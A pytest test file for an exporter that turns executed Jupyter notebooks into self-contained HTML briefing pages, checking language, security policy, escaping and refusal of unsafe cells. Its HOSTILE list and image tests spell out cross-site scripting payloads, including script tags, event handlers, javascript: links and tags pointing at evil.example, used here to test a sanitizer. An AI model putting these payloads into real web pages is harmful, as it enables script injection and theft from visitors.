"""The page of an executed notebook, and notebooks that are refused."""

import re

import pytest
from nbformat.v4 import new_output

from analysis.presentation.display import show_style
from analysis.rendering.page.completeness import BriefRefused
from analysis.rendering.page.exporter import BriefExporter, export_brief
from analysis.rendering.page.page_parts import load_css
from analysis.rendering.page.sections import compose_sections

from .executed_notebooks import PIXEL, Page, code, end, notebook, prose, show

ONE = "a" * 64


def export(*cells, last=None, other_languages=()):
    return Page(export_brief(notebook(*cells, last=last), ONE, other_languages))


@pytest.fixture(scope="module")
def page():
    return export(
        prose("# Notebook\n\nFirst words.", "start"),
        prose("## Money\n\nProse & *more*.", "money"),
        code(show(html="<table><thead><tr><th scope='col'>x</th></tr></thead></table>")),
        prose("## 脱贫", "poverty"),
        code(show(text="DataFrame"), new_output("stream", name="stdout", text="a < b")),
    )


def test_a_page_declares_its_language_and_one_title(page):
    assert page.html.startswith('<!DOCTYPE html>\n<html lang="zh-CN">')
    assert re.findall("<title>(.*)</title>", page.html) == ["清新区简报"]
    assert len(page.find("h1")) == 1
    assert "Notebook" not in page.text


def test_an_english_page_says_that_it_is_english():
    page = export(last=code(end(language="en", title="Qingxin brief")))
    assert page.find("html") == [{"lang": "en"}]


def test_the_security_policy_is_the_first_thing_in_the_head(page):
    names = [name for name, _ in page.tags]
    first = page.tags[names.index("head") + 1]
    assert first[0] == "meta"
    assert first[1]["http-equiv"] == "Content-Security-Policy"
    assert first[1]["content"].startswith("default-src 'none'; ")


def test_the_contents_list_leads_to_every_section(page):
    headings = [attributes["id"] for attributes in page.find("h2")]
    assert headings == ["money", "poverty"]
    links = [attributes["href"] for attributes in page.find("a")]
    assert [f"#{heading}" for heading in headings] == [link for link in links if "page" not in link]


def test_a_page_has_no_code_no_prompt_and_no_script(page):
    assert not page.find("script")
    assert "In [" not in page.html
    assert "Out[" not in page.html


def test_nothing_is_loaded_from_anywhere(page):
    assert page.addresses
    assert all(address.startswith(("#", "data:image/")) for address in page.addresses)
    assert "http:" not in page.html
    assert "https:" not in page.html
    assert "url(" not in page.html
    assert "@import" not in page.html


def test_text_outputs_are_escaped(page):
    assert "a &lt; b" in page.html


def test_the_last_line_shows_that_the_page_is_complete(page):
    last = page.html.splitlines()[-1]
    assert last == f"<!-- county-brief 441803 zh input:{ONE} complete -->"


def test_the_other_language_is_linked_only_if_its_page_exists(page):
    linked = export(other_languages=("en",))
    assert {"href": "441803.en.html", "hreflang": "en", "lang": "en"} in linked.find("a")
    assert "441803.en.html" not in page.html


def test_two_exports_are_the_same_bytes_whatever_papermill_noted():
    first = notebook(prose("## Money"), code(show(text="x", html="<p>x</p>")))
    second = notebook(prose("## Money"), code(show(text="x at 0x7f", html="<p>x</p>")))
    second.metadata["papermill"] = {"start_time": "2026-01-01T00:00:00"}
    second.cells[1].metadata["papermill"] = {"duration": 1.5}
    assert first.cells[1].id != second.cells[1].id
    assert export_brief(first, ONE, ()) == export_brief(second, ONE, ())


def test_nbconvert_finds_everything_it_needs_by_itself():
    html, resources = BriefExporter().from_notebook_node(notebook())
    assert html.endswith("input:unknown complete -->")
    assert resources["output_extension"] == ".html"


def test_markdown_is_translated_cell_by_cell():
    words = {"## Money\n\nSpent.": "## 资金\n\n已支出。"}
    sections = compose_sections(notebook(prose("## Money\n\nSpent.")), words.get)
    assert sections[0].heading == "资金"
    assert sections[0].blocks[0] == "<p>已支出。</p>\n"


def test_a_cell_for_the_analyst_is_left_out_of_the_page():
    hidden = prose("How to change this notebook.")
    hidden.metadata["tags"] = ["remove-cell"]
    assert "How to change" not in export(hidden).html


def test_the_style_of_cells_is_left_out_of_the_page():
    page = export(code(show(html=str(show_style().html))))
    assert page.html.count("<style>") == 1
    assert ".table-scroll .data-table" not in page.html


def test_an_image_output_keeps_its_description():
    output = show(png="iVBORw0KGgo=\n", text="Figure")
    output.metadata["alt"] = 'Paid & "planned"'
    image = export(code(output)).find("img")
    assert image == [{"src": PIXEL, "alt": 'Paid & "planned"'}]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<p onclick=alert(1)>x</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://evil.example">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object>',
    '<form action="https://evil.example"><input name=x></form>',
    '<video src="https://evil.example/x"></video>',
    "</section></main></body><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<p id="page-main">x</p>',
]


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("kind", ["output", "markdown"])
def test_hostile_html_does_nothing(html, kind):
    cell = code(show(html=html)) if kind == "output" else prose(f"Words.\n\n{html}")
    page = export(cell)
    harmless = export(code(show(html="<p>x</p>")))
    allowed = {name for name, _ in harmless.tags} | {"a", "p", "style"}
    assert {name for name, _ in page.tags} <= allowed
    assert len(page.find("style")) == len(page.find("main")) == 1
    assert len(page.find("meta")) == len(harmless.find("meta"))
    assert all(address.startswith("#") for address in page.addresses)
    assert not any(name.startswith("on") for _, attributes in page.tags for name in attributes)
    assert not any("style" in attributes for _, attributes in page.tags)
    assert "evil.example" not in page.html.replace("&lt;", "<") or kind == "markdown"
    ids = [attributes.get("id") for _, attributes in page.tags]
    assert ids.count("page-main") == 1


def test_a_markdown_link_with_a_script_leads_nowhere():
    page = export(prose("[x](javascript:alert(1)) and [y](https://evil.example)"))
    assert "javascript" not in page.html
    assert "evil.example" not in page.html


@pytest.mark.parametrize(
    ("html", "reason"),
    [
        ("<img src=x onerror=alert(1)>", "not embedded in the page"),
        ('<img src="https://evil.example/x.png" alt="x">', "not embedded in the page"),
        ('<img src="data:text/html;base64,AAAA" alt="x">', "not embedded in the page"),
        (f'<img src="{PIXEL}">', "without a description"),
        (f'<img src="{PIXEL}" alt=" ">', "without a description"),
    ],
)
def test_images_from_elsewhere_or_without_description_are_refused(html, reason):
    with pytest.raises(BriefRefused, match=reason):
        export(code(show(html=html), cell_id="chart"))


REFUSED = {
    "raised ValueError: no": code(new_output("error", ename="ValueError", evalue="no")),
    "did not run": code(count=None),
    "wrote to stderr: hm": code(new_output("stream", name="stderr", text="hm\n")),
    "application/javascript": code(show(html="x", **{"application/javascript": "alert(1)"})),
    "widget-view": code(show(text="x", **{"application/vnd.jupyter.widget-view+json": {}})),
    "text/markdown": code(show(**{"text/markdown": "[x](y)"})),
    "without a description": code(show(svg="<svg/>", text="Figure")),
    "address in memory": code(show(text="<Axes at 0x7f0a1b2c>")),
    "more than once: twice": code(show(html='<h3 id="twice">a</h3><h3 id="twice">b</h3>')),
    "not its first line": prose("words\n\n## Late"),
}


@pytest.mark.parametrize("reason", REFUSED)
def test_a_page_is_refused_with_its_reason(reason):
    with pytest.raises(BriefRefused, match=reason):
        export(REFUSED[reason])


@pytest.mark.parametrize("reason", list(REFUSED)[:5])
def test_a_refusal_names_the_cell(reason):
    with pytest.raises(BriefRefused, match=r"^cell 1 \("):
        export(REFUSED[reason])


@pytest.mark.parametrize(
    "last",
    [code(), code(end(), end()), code(end(county_code="44")), code(end(title="")), prose("end")],
)
def test_a_notebook_without_a_readable_end_mark_is_refused(last):
    with pytest.raises(BriefRefused):
        export(last=last)


def test_a_title_cannot_break_out_of_its_place():
    page = export(last=code(end(title="</title><script>alert(1)</script>")))
    assert not page.find("script")


def test_the_style_sheet_loads_nothing_and_stays_in_its_place():
    css = load_css()
    assert "h1 {" in css
    assert not re.search(r"url\(|@import|@font-face|</|https?:|//", css)
